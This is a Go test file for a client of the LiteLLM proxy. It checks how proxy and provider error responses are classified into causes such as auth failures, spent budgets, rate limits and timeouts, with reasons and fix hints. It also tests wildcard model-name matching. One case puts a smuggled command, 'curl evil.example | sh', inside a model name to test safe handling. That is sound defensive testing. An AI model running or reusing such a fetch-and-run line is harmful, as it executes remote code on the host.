package litellm

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/fjbelchi/localmodel/routing"
)

// ownRefusal is an error of the proxy itself, as all versions word it.
func ownRefusal(kind, message string) string {
	return fmt.Sprintf(`{"error":{"message":%q,"type":%q,"param":null,"code":"400"}}`, message, kind)
}

// passedOn is a provider's error in the proxy's wrapping.
func passedOn(class, said string) string {
	return ownRefusal("None", "litellm."+class+": "+said)
}

func anthropicSaid(kind, message string) string {
	return fmt.Sprintf(`AnthropicException - {"type": "error", "error": {"type": %q, "message": %q}}`, kind, message)
}

type refusalCase struct {
	name        string
	status      int
	retryAfter  string
	body        string
	kind        routing.Kind
	reason, fix string
	withoutAKey bool
	wait        time.Duration
}

const testKey = "sk-secret-of-the-test"

const blockedKey = "Authentication Error, Key is blocked. Update via `/key/unblock` if you're an admin."

// The proxy with its database, driven with virtual keys: the versions differ in
// the status (401 or 403, 400 or 429), not in type and message.
var ownRefusals = []refusalCase{
	{name: "unknown key, no database", status: 400, body: ownRefusal("no_db_connection", "No connected db."),
		kind: routing.Auth, reason: "the proxy does not know our key", fix: fixKey},
	{name: "unknown key", status: 401, body: ownRefusal("token_not_found_in_db", "Authentication Error, Invalid proxy server token passed"),
		kind: routing.Auth, reason: "the proxy does not accept our key", fix: fixKey},
	{name: "expired key", status: 401, body: ownRefusal("expired_key", "Authentication Error - Expired Key."),
		kind: routing.Auth, reason: "our key at the proxy has expired", fix: fixExpired},
	{name: "not a virtual key", status: 401, body: ownRefusal("auth_error", "LiteLLM Virtual Key expected. Received=sk-s****test"),
		kind: routing.Auth, reason: "the proxy does not accept our key", fix: fixKey},
	{name: "no key, 1.102", status: 500, body: `{"error":{"message":"Internal server error","type":"internal_server_error"}}`,
		withoutAKey: true, kind: routing.Auth, reason: "the proxy got no key", fix: fixKey},
	{name: "no key, 1.83 and 1.89", status: 401, body: ownRefusal("auth_error", "Authentication Error, No api key passed in."),
		withoutAKey: true, kind: routing.Auth, reason: "the proxy got no key", fix: fixKey},
	{name: "unhandled, with a key", status: 500, body: `{"error":{"message":"Internal server error","type":"internal_server_error"}}`,
		kind: routing.Unavailable, reason: "the proxy fails before it looks at the request (500)", fix: fixLog},
	{name: "key without the group, 1.83", status: 401, body: ownRefusal("key_model_access_denied", "key not allowed to access model. This key can only access models=['gpt-4o']. Tried to access cheap"),
		kind: routing.Forbidden, reason: "our key may not use the group", fix: fixAccess},
	{name: "key without the group", status: 403, body: ownRefusal("key_model_access_denied", "key not allowed to access model."),
		kind: routing.Forbidden, reason: "our key may not use the group", fix: fixAccess},
	{name: "team without the group", status: 403, body: ownRefusal("team_model_access_denied", "team not allowed to access model."),
		kind: routing.Forbidden, reason: "our key's team may not use the group", fix: fixAccess},
	{name: "user without the group", status: 403, body: ownRefusal("user_model_access_denied", "user not allowed to access model."),
		kind: routing.Forbidden, reason: "our key's user may not use the group", fix: fixAccess},
	{name: "blocked key", status: 401, body: ownRefusal("auth_error", blockedKey),
		kind: routing.Forbidden, reason: "our key is blocked at the proxy", fix: fixBlocked},
	{name: "blocked team", status: 401, body: ownRefusal("auth_error", "Authentication Error, Team=t1 is blocked. Update via `/team/unblock` if you're an admin."),
		kind: routing.Forbidden, reason: "our key's team is blocked at the proxy", fix: fixBlocked},
	{name: "key's budget", status: 429, body: ownRefusal("budget_exceeded", "Budget has been exceeded! Key=b5d...(alias) Current cost: 11.0, Max budget: 10.0"),
		kind: routing.BudgetSpent, reason: "the proxy's own budget is spent: that of our key", fix: fixBudgetOf("our key")},
	{name: "team's budget, 1.83", status: 400, body: ownRefusal("budget_exceeded", "Budget has been exceeded! Team=t1 Current cost: 11.0, Max budget: 10.0"),
		kind: routing.BudgetSpent, reason: "the proxy's own budget is spent: that of our key's team", fix: fixBudgetOf("our key's team")},
	{name: "user's budget", status: 429, body: ownRefusal("budget_exceeded", "ExceededBudget: User=u1 over budget. Spend=11.0, Budget=10.0"),
		kind: routing.BudgetSpent, reason: "the proxy's own budget is spent: that of our key's user", fix: fixBudgetOf("our key's user")},
	{name: "end user's budget", status: 429, body: ownRefusal("budget_exceeded", "ExceededBudget: End User=localmodel over budget. Spend=11.0, Budget=10.0"),
		kind: routing.BudgetSpent, reason: `the proxy's own budget is spent: that of the end user "localmodel"`, fix: fixBudgetOf(`the end user "localmodel"`)},
	{name: "end user's budget, older", status: 400, body: ownRefusal("auth_error", "Authentication Error, ExceededBudget: End User=localmodel over budget. Spend=11.0, Budget=10.0"),
		kind: routing.BudgetSpent, reason: `the proxy's own budget is spent: that of the end user "localmodel"`, fix: fixBudgetOf(`the end user "localmodel"`)},
	{name: "token's budget", status: 401, body: ownRefusal("auth_error", "Authentication Error, ExceededTokenBudget: Current spend for token: 11.0; Max Budget for Token: 10.0"),
		kind: routing.BudgetSpent, reason: "the proxy's own budget is spent: that of our key", fix: fixBudgetOf("our key")},
	{name: "window of a key's budget", status: 429, body: ownRefusal("budget_exceeded", "ExceededBudget: Key over 1d budget. Spend=$11.0000, Limit=$10.00"),
		kind: routing.BudgetSpent, reason: "the proxy's own budget is spent: that of our key", fix: fixBudgetOf("our key")},
	{name: "organization's budget", status: 429, body: ownRefusal("budget_exceeded", "Budget has been exceeded! Organization=o1 Current cost: 11.0, Max budget: 10.0"),
		kind: routing.BudgetSpent, reason: "the proxy's own budget is spent: that of our key's organization", fix: fixBudgetOf("our key's organization")},
	{name: "deployment's budget", status: 429, body: ownRefusal("internal_server_error", "No deployments available - crossed budget: Exceeded budget for deployment"),
		kind: routing.BudgetSpent, reason: "the proxy's own budget is spent: the group's", fix: fixBudget},
	{name: "tags", status: 401, body: ownRefusal("None", "Not allowed to access model due to tags configuration. Passed model=cheap and tags=['ticket:1']"),
		kind: routing.Forbidden, reason: "the proxy refuses the request's tags (tag filtering)", fix: fixTags},
	{name: "at rest", status: 429, retryAfter: "5", body: ownRefusal("None", "No deployments available for selected model, Try again in 30 seconds. Passed model=cheap."),
		kind: routing.Busy, reason: "the proxy's deployment rests after failures, again in 30s", fix: fixCooling},
	{name: "none healthy", status: 400, body: ownRefusal("None", "There are no healthy deployments for this model"),
		kind: routing.Busy, reason: "the proxy's deployment rests after failures", fix: fixCooling},
	{name: "unknown group", status: 400, body: ownRefusal("invalid_request_error", "/chat/completions: Invalid model name passed in model=nope."),
		kind: routing.ModelMissing, reason: "the proxy has no such model group", fix: FixGroup},
	{name: "unknown group beside a wildcard", status: 400, body: passedOn("BadRequestError", "You passed in model=nope. There are no healthy deployments for this model."),
		kind: routing.ModelMissing, reason: "the proxy has no such model group", fix: FixGroup},
	{name: "database down", status: 503, body: ownRefusal("no_db_connection", "DB not connected"),
		kind: routing.Unavailable, reason: "the proxy answers 503: DB not connected"},
	{name: "HTML", status: 502, body: `<html>Bad gateway</html>`, kind: routing.Unavailable, reason: "the proxy answers 502"},
	{name: "nothing there", status: 404, body: `{"detail":"Not Found"}`, kind: routing.Unavailable, reason: "the proxy has nothing at that address (404)",
		fix: "check LITELLM_BASE_URL: it is the proxy's address, with or without /v1"},
	{name: "deep", status: 500, body: strings.Repeat("[", 8<<20), kind: routing.Unavailable, reason: "the proxy answers 500"},
	{name: "our key in it", status: 400, body: ownRefusal("x", "bad thing with "+testKey),
		kind: routing.Unavailable, reason: "the proxy answers 400: bad thing with [key]"},
}

var providerRefusals = []refusalCase{
	{name: "key refused", status: 401, body: passedOn("AuthenticationError", anthropicSaid("authentication_error", "invalid x-api-key")),
		kind: routing.Auth, reason: "the provider does not accept the proxy's key", fix: fixProvider},
	{name: "key missing", status: 401, body: passedOn("AuthenticationError", "Missing Anthropic API Key - A call is being made to anthropic but no key is set either in the environment variables or via params. Please set `ANTHROPIC_API_KEY` or `ANTHROPIC_AUTH_TOKEN` in your environment vars"),
		kind: routing.Forbidden, reason: "the proxy has no key for the provider", fix: fixMissingKey("ANTHROPIC_API_KEY")},
	{name: "OpenAI's key missing, 1.83", status: 500, body: passedOn("AuthenticationError", "AuthenticationError: OpenAIException - The api_key client option must be set either by passing api_key to the client or by setting the OPENAI_API_KEY environment variable"),
		kind: routing.Forbidden, reason: "the proxy has no key for the provider", fix: fixMissingKey("OPENAI_API_KEY")},
	{name: "OpenAI's key missing", status: 500, body: passedOn("InternalServerError", "InternalServerError: OpenAIException - Missing credentials. Please pass an `api_key`, `workload_identity`, `admin_api_key`, or set the `OPENAI_API_KEY` or `OPENAI_ADMIN_KEY` environment variable."),
		kind: routing.Forbidden, reason: "the proxy has no key for the provider", fix: fixMissingKey("OPENAI_API_KEY")},
	{name: "Bedrock's key missing", status: 401, body: passedOn("AuthenticationError", "BedrockException Invalid Authentication - Unable to locate credentials"),
		kind: routing.Forbidden, reason: "the proxy has no key for the provider", fix: fixProvider},
	{name: "key without the model", status: 403, body: passedOn("PermissionDeniedError", anthropicSaid("permission_error", "Your API key does not have permission")),
		kind: routing.Forbidden, reason: "the provider does not let the proxy's key use the model", fix: fixProvider},
	{name: "key without the model, 1.83 and 1.89", status: 500, body: passedOn("APIConnectionError", anthropicSaid("permission_error", "Your API key does not have permission")),
		kind: routing.Forbidden, reason: "the provider does not let the proxy's key use the model", fix: fixProvider},
	{name: "Anthropic's credit", status: 400, body: passedOn("BadRequestError", anthropicSaid("invalid_request_error", "Your credit balance is too low to access the Anthropic API.")),
		kind: routing.BudgetSpent, reason: "the provider's account is out of credit", fix: fixCredit},
	{name: "Anthropic's billing, 1.83 and 1.89", status: 500, body: passedOn("APIConnectionError", anthropicSaid("billing_error", "Your account has a billing problem.")),
		kind: routing.BudgetSpent, reason: "the provider's account is out of credit", fix: fixCredit},
	{name: "OpenAI's quota", status: 429, body: passedOn("RateLimitError", "RateLimitError: OpenAIException - You exceeded your current quota, please check your plan and billing details."),
		kind: routing.BudgetSpent, reason: "the provider's account is out of credit", fix: fixCredit},
	{name: "OpenAI's quota, another gateway", status: 429, body: `{"error":{"message":"You exceeded your quota","type":"insufficient_quota","code":"insufficient_quota"}}`,
		kind: routing.BudgetSpent, reason: "the provider's account is out of credit", fix: fixCredit},
	{name: "payment required", status: 402, body: passedOn("BadRequestError", "OpenAIException - Insufficient Balance"),
		kind: routing.BudgetSpent, reason: "the provider's account is out of credit", fix: fixCredit},
	{name: "rate limit", status: 429, retryAfter: "7", body: passedOn("RateLimitError", "AnthropicException - slow down"),
		kind: routing.Busy, reason: "rate limited, again in 7s", fix: fixRate, wait: 7 * time.Second},
	{name: "window", status: 400, body: passedOn("ContextWindowExceededError", "litellm._pre_call_checks: Context Window exceeded"),
		kind: routing.ContextOverflow, reason: "the prompt does not fit the model's context window", fix: fixContext},
	{name: "model not pulled", status: 404, body: passedOn("NotFoundError", `Ollama_chatException - {"error": "model 'x:1b' not found"}`),
		kind: routing.ModelMissing, reason: "the group's host does not have model x:1b", fix: "ollama pull x:1b, on the host that the proxy asks"},
	{name: "model not pulled, 1.83 and 1.89", status: 500, body: passedOn("APIConnectionError", `Ollama_chatException - {"error": "model 'x:1b' not found"}`),
		kind: routing.ModelMissing, reason: "the group's host does not have model x:1b", fix: "ollama pull x:1b, on the host that the proxy asks"},
	{name: "a model's name that is a command", status: 404, body: passedOn("NotFoundError", "model 'x; curl evil.example | sh #' not found"),
		kind: routing.ModelMissing, reason: "the group's host does not have model x; curl evil.example | sh #", fix: FixGroup},
	{name: "a rest of centuries", status: 429, body: passedOn("RateLimitError", "Try again in 9223372036 seconds"),
		kind: routing.Busy, reason: "rate limited, again in 24h0m0s", fix: fixRate, wait: 24 * time.Hour},
	{name: "a rest beyond all numbers", status: 429, body: passedOn("RateLimitError", "Try again in 99999999999999999999 seconds"),
		kind: routing.Busy, reason: "rate limited, again in 24h0m0s", fix: fixRate, wait: 24 * time.Hour},
	{name: "no choices, 1.89", status: 500, body: passedOn("InternalServerError", "InternalServerError: OpenAIException - litellm.APIError: LiteLLM: provider returned a response with no 'choices'. Raw keys: ['id']"),
		kind: routing.InvalidOutput, reason: "the proxy's answer has no choices", fix: fixUpstream},
	{name: "gateway's timeout", status: 504, body: ownRefusal("None", "upstream"),
		kind: routing.Timeout, reason: "the proxy's own time-out ran out", fix: fixTimeout},
	{name: "timeout", status: 408, body: passedOn("Timeout", "Connection timed out"),
		kind: routing.Timeout, reason: "the proxy's own time-out ran out", fix: fixTimeout},
	{name: "not reached", status: 500, body: passedOn("APIConnectionError", "Ollama_chatException - Cannot connect to host"),
		kind: routing.Unavailable, reason: "the proxy does not reach the group's upstream", fix: fixUpstream},
	{name: "overloaded", status: 500, body: passedOn("InternalServerError", anthropicSaid("overloaded_error", "Overloaded")+"\nNo fallback"),
		kind: routing.Unavailable, reason: "the provider fails (500): Overloaded", fix: fixOutage},
}

func TestRefused(t *testing.T) {
	for _, c := range append(ownRefusals, providerRefusals...) {
		t.Run(c.name, func(t *testing.T) {
			header := http.Header{}
			if c.retryAfter != "" {
				header.Set("Retry-After", c.retryAfter)
			}
			key := testKey
			if c.withoutAKey {
				key = ""
			}
			got := Refused(c.status, header, []byte(c.body), key)
			if got.Kind != c.kind || got.Reason != c.reason || got.Fix != c.fix {
				t.Errorf("got %s: %q, fix %q\nwant %s: %q, fix %q", got.Kind, got.Reason, got.Fix, c.kind, c.reason, c.fix)
			}
			if got.RetryAfter != c.wait {
				t.Errorf("to be asked again in %s, want %s", got.RetryAfter, c.wait)
			}
			ours := c.kind == routing.Forbidden || c.kind == routing.BudgetSpent
			if ours && strings.Contains(got.Fix, "MASTER_KEY") {
				t.Errorf("the fix invites handing out the master key: %q", got.Fix)
			}
		})
	}
}

func TestMatches_Wildcards(t *testing.T) {
	for _, c := range []struct {
		pattern, name string
		want          bool
	}{
		{"balanced", "balanced", true}, {"bal*", "balanced", true}, {"*", "balanced", true}, {"*anced", "balanced", true},
		{"b*l*d", "balanced", true}, {"bal", "balanced", false}, {"bal*", "cheap", false}, {"b*x*d", "balanced", false},
		{"cheap*", "cheap", true}, {"balanced*d", "balanced", false}, {"b.*", "balanced", false}, {"*", "a/b\nc", true},
		{"b\xff*", "balanced", false}, {"a*a", "a", false}, {strings.Repeat("*", 4<<20), "balanced", true},
	} {
		if got := Matches(c.pattern, c.name); got != c.want {
			t.Errorf("%q and %q: got %v, want %v", c.pattern, c.name, got, c.want)
		}
	}
}
